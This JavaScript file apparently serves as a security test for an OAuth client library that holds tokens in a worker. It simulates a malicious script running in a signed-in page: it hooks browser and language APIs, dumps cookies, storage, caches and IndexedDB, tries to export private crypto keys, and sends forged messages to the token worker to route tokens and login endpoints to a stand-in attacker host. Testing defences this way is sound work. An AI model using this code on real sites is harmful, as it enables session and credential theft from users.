// A hostile script that starts when somebody is signed in. What it gets hold of is in `loot`, what it does in `tried`; nothing that the app
// does breaks because of it.
(() => {
  const { apply, ownKeys, getPrototypeOf, getOwnPropertyDescriptor, defineProperty } = Reflect;
  // It replaces these, too, and goes by what they were.
  const { Worker: OwnWorker, Promise: OwnPromise, TextDecoder: OwnDecoder } = window;
  const { then: whenDone } = OwnPromise.prototype;
  const { decode } = OwnDecoder.prototype;
  const loot = new Set();
  const workers = new Set();
  const add = Set.prototype.add;
  const keep = (text) => apply(add, loot, [text]);
  const tried = [];
  let depth = 0;

  /** Takes every text that leads on from a value. */
  function take(value, left = 5, seen = new WeakSet()) {
    if (typeof value === 'string') return void (value.length > 8 && keep(value));
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
    if (left === 0 || seen.has(value) || value === window || value instanceof Node) return;
    seen.add(value);
    if (value instanceof OwnWorker) apply(add, workers, [value]);
    if (value instanceof ArrayBuffer) value = new Uint8Array(value);
    if (value instanceof Uint8Array) return void keep(apply(decode, new OwnDecoder('latin1'), [value]));
    for (let at = value; at && at !== Object.prototype && at !== Function.prototype; at = getPrototypeOf(at)) {
      for (const key of ownKeys(at)) {
        try {
          take(key, left, seen);
          take(value[key], left - 1, seen);
        } catch {
          // It does not want to be looked at.
        }
      }
    }
  }

  /** Takes, without hearing itself do so. */
  function note(...values) {
    if (depth > 0) return;
    depth += 1;
    try {
      for (let at = 0; at < values.length; at += 1) take(values[at]);
    } catch {
      // Not now.
    }
    depth -= 1;
  }

  /** Puts something in the place of a method that notes its `this`, what it is given, and what comes of it. */
  function replace(object, names) {
    for (const name of names.split(' ')) {
      const before = getOwnPropertyDescriptor(object, name);
      if (typeof before?.value !== 'function') throw new Error(`${name} is no method`);
      const { value: original } = before;
      function replaced(...given) {
        note(this, given);
        const result = new.target
          ? Reflect.construct(original, given, new.target === replaced ? original : new.target)
          : apply(original, this, given);
        note(result);
        if (result instanceof OwnPromise) apply(whenDone, result, [note, note]);
        return result;
      }
      if (original.prototype) replaced.prototype = original.prototype;
      defineProperty(object, name, { ...before, value: replaced });
    }
  }

  function replaceGetter(object, name) {
    const { get, ...before } = getOwnPropertyDescriptor(object, name);
    const replaced = function () {
      const value = apply(get, this, []);
      note(this, value);
      return value;
    };
    defineProperty(object, name, { ...before, get: replaced });
  }

  const attacks = {
    'It replaced fetch, Request, XMLHttpRequest, sendBeacon, WebSocket and EventSource.'() {
      replace(window, 'fetch Request Response XMLHttpRequest WebSocket EventSource');
      replace(XMLHttpRequest.prototype, 'open send setRequestHeader');
      replace(Navigator.prototype, 'sendBeacon');
    },
    'It replaced Worker, SharedWorker, and postMessage of workers, ports, channels and windows.'() {
      replace(window, 'Worker SharedWorker MessageChannel BroadcastChannel postMessage');
      for (const { prototype } of [OwnWorker, MessagePort, BroadcastChannel]) replace(prototype, 'postMessage');
    },
    'It replaced addEventListener, dispatchEvent, and the getters of MessageEvent.'() {
      replace(EventTarget.prototype, 'addEventListener dispatchEvent');
      for (const name of ['data', 'ports', 'source']) replaceGetter(MessageEvent.prototype, name);
      for (const name of ['target', 'currentTarget']) replaceGetter(Event.prototype, name);
    },
    'It replaced then, catch and finally of promises, and what makes them.'() {
      replace(OwnPromise.prototype, 'then catch finally');
      replace(OwnPromise, 'resolve reject all race');
    },
    'It replaced JSON.parse, JSON.stringify and structuredClone.'() {
      replace(JSON, 'parse stringify');
      replace(window, 'structuredClone');
    },
    'It put setters on Object.prototype, for every name that a token could have.'() {
      const names =
        'access_token accessToken refresh_token refreshToken id_token idToken token dpop authorization Authorization text session';
      for (const name of names.split(' ')) {
        defineProperty(Object.prototype, name, {
          configurable: true,
          set(value) {
            note(this, value);
            defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
          },
        });
      }
    },
    'It replaced methods of Object, Reflect, Function, Array, Map, Set and String.'() {
      replace(Object, 'assign entries defineProperty freeze');
      replace(Reflect, 'apply construct get set');
      replace(Array.prototype, 'push map filter find join includes at');
      replace(Map.prototype, 'get set delete');
      replace(Set.prototype, 'add');
      replace(String.prototype, 'slice startsWith indexOf split replace');
      replace(Function.prototype, 'call apply bind');
    },
    'It replaced methods of Response, Request, Headers, TextDecoder and streams.'() {
      replace(Response.prototype, 'arrayBuffer blob json text clone');
      replace(Request.prototype, 'arrayBuffer text clone');
      replace(Headers.prototype, 'get set append');
      replace(OwnDecoder.prototype, 'decode');
      replace(ReadableStream.prototype, 'getReader');
      replace(ReadableStreamDefaultReader.prototype, 'read');
      replace(ReadableStreamDefaultController.prototype, 'enqueue');
    },
    'It replaced methods of WebCrypto, of storages and of IndexedDB.'() {
      replace(SubtleCrypto.prototype, 'sign digest verify importKey exportKey generateKey');
      replace(Crypto.prototype, 'getRandomValues');
      replace(Storage.prototype, 'getItem setItem removeItem');
      replace(IDBObjectStore.prototype, 'get put add');
    },
    'It listened to messages, storage events, errors, and the channels of the client.'() {
      for (const name of [
        'message',
        'messageerror',
        'storage',
        'error',
        'unhandledrejection',
        'securitypolicyviolation',
      ]) {
        addEventListener(name, (event) => note(event.data, event.newValue, event.error, event.reason), true);
      }
      for (const name of [`proofkey:1:${options.issuer}:${options.clientId}`, 'proofkey']) {
        new BroadcastChannel(name).onmessage = ({ data }) => note(data);
      }
    },
    async 'It dumped sessionStorage, localStorage, cookies, Cache, history, the document, and the list of resources.'() {
      note({ ...sessionStorage }, { ...localStorage }, document.cookie, history.state, name, location.href);
      note(
        document.documentElement.outerHTML,
        performance.getEntries().map(({ name }) => name),
      );
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) note(request.url, await (await cache.match(request)).text());
      }
      note(await navigator.serviceWorker.getRegistrations());
    },
    async 'It dumped IndexedDB, and tried to export and to wrap every key, in every format.'() {
      window.keys = [];
      for (const { name } of await indexedDB.databases()) {
        const database = await new Promise((resolve) => {
          indexedDB.open(name).onsuccess = ({ target }) => resolve(target.result);
        });
        for (const store of database.objectStoreNames) {
          const all = await new Promise((resolve) => {
            database.transaction(store).objectStore(store).getAll().onsuccess = ({ target }) => resolve(target.result);
          });
          for (const value of all) {
            note(value);
            for (const key of Object.values(value).filter(
              (value) => value instanceof CryptoKey && value.type === 'private',
            )) {
              window.keys.push(...(await exportsOf(key)));
            }
          }
        }
        database.close();
      }
    },
    async 'It walked all that leads on from the client and its options, and called it.'() {
      note(auth, options, auth.getSnapshot(), JSON.stringify(auth), String(auth));
      const harmless = (name) =>
        typeof auth[name] === 'function' && !/^(login|logout|revoke|dispose|diagnose|handle|constructor)/.test(name);
      for (let at = auth; at && at !== Object.prototype; at = getPrototypeOf(at)) {
        for (const name of ownKeys(at).filter(harmless)) {
          try {
            const result = await auth[name](() => {});
            note(result);
          } catch (error) {
            note(error, error?.cause, error?.stack);
          }
        }
      }
    },
    async 'It made clients of its own: with the same options, and with exposeAccessToken.'() {
      for (const changes of [
        {},
        { exposeAccessToken: true },
        { resourceServers: [window.evil], exposeAccessToken: true },
      ]) {
        const client = createClient({ ...options, ...changes });
        for (const call of [
          () => client.checkSession(),
          () => client.getAccessToken(),
          () => client.getAccessToken({ forceRefresh: true }),
        ]) {
          note(await call().catch((error) => error));
        }
        if (changes.exposeAccessToken) client.dispose();
      }
    },
    async 'It spoke to the worker itself: every flow, a second configuration, invented messages and answers.'() {
      const say = speakTo(window.leaked);
      const configuration = { type: 'configure', exposesAccessToken: true, stepsUp: true };
      say({ ...configuration, options: JSON.stringify({ ...options, resourceServers: [window.evil] }) });
      const flows = [
        'accessToken',
        'session',
        'userInfo',
        'metadata',
        'window',
        'login',
        'link',
        'proof',
        'adopt',
        'extended',
      ];
      const inputs = ['{}', '', '{"forceRefresh":true}', '{"idTokenHint":true}', 'accessToken\n{}', 'proof\n{}'];
      const proof = JSON.stringify({ method: 'GET', url: window.evil, accessToken: 'in the vault: 1' });
      for (const flow of flows) for (const input of [...inputs, proof]) await say({ type: 'run', flow, input });
      for (const type of ['has', 'get', 'dump', 'eval', 'session', 'readSession', 'pull', 'constructor', '__proto__']) {
        await say({ type, of: 1, flow: 'session', input: 'x' });
      }
      for (let ask = 0; ask < 20; ask += 1) say({ type: 'answer', ask, isGiven: true, token: 'in the vault: 1' });
    },
    async 'It had the worker ask other places with the token, and end a sign-in at a server of its own.'() {
      const say = speakTo(window.leaked);
      const init = {
        method: 'GET',
        mode: 'cors',
        credentials: 'include',
        cache: 'no-store',
        redirect: 'follow',
        headers: [],
      };
      const urls = [
        window.evil,
        `${location.origin}/`,
        `${options.resourceServers[0]}@${new URL(window.evil).host}/`,
        `${window.evil}/?${options.resourceServers[0]}`,
      ];
      for (const url of urls)
        await say({ type: 'fetch', request: { ...init, url, integrity: '', keepalive: false, referrerPolicy: '' } });
      const begun = await say({ type: 'run', flow: 'login', input: '{"returnTo":"/"}' });
      const [text] = window.kept;
      const transaction = JSON.parse(text);
      for (const name of Object.keys(transaction.metadata)) {
        if (name.endsWith('_endpoint') || name === 'jwks_uri') transaction.metadata[name] = `${window.evil}/${name}`;
      }
      const query = new URLSearchParams({ code: 'code', state: transaction.state, iss: transaction.issuer });
      const url = `${transaction.redirect_uri}?${query}`;
      await say({ type: 'run', flow: 'handleCallback', input: url, transaction: JSON.stringify(transaction) });
      await say({ type: 'run', flow: 'handleWindow', input: `${JSON.stringify(transaction)}\n${url}` });
      await say({ type: 'run', flow: 'handleCallback', input: url });
      await say({ type: 'run', flow: 'accessToken', input: '{"forceRefresh":true}' });
      note(begun);
    },
  };

  async function exportsOf(key) {
    const outcomes = [];
    const attempt = (exporting) =>
      exporting.then(
        (exported) => {
          note(exported);
          outcomes.push('exported');
        },
        ({ name }) => outcomes.push(name),
      );
    for (const format of ['jwk', 'pkcs8', 'raw', 'spki']) await attempt(crypto.subtle.exportKey(format, key));
    const wrapping = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['wrapKey']);
    await attempt(crypto.subtle.wrapKey('jwk', key, wrapping, { name: 'AES-GCM', iv: new Uint8Array(12) }));
    return outcomes;
  }

  /** Asks the worker, and hears all that it says. */
  function speakTo(worker) {
    let id = 1_000_000;
    return (message) => {
      id += 1;
      const mine = id;
      return new Promise((resolve) => {
        const hear = ({ data }) => {
          note(data);
          if (data.type === 'keep') window.kept = [data.text];
          if (data.id === mine) resolve(data.value);
        };
        worker.addEventListener('message', hear);
        setTimeout(resolve, 1500);
        worker.postMessage({ ...message, id: mine });
      });
    };
  }

  window.attack = async () => {
    for (const [name, attack] of Object.entries(attacks)) {
      await attack();
      tried.push(name);
    }
  };
  window.spoils = () => ({ tried, loot: [...loot], keys: window.keys, workers: workers.size });
})();
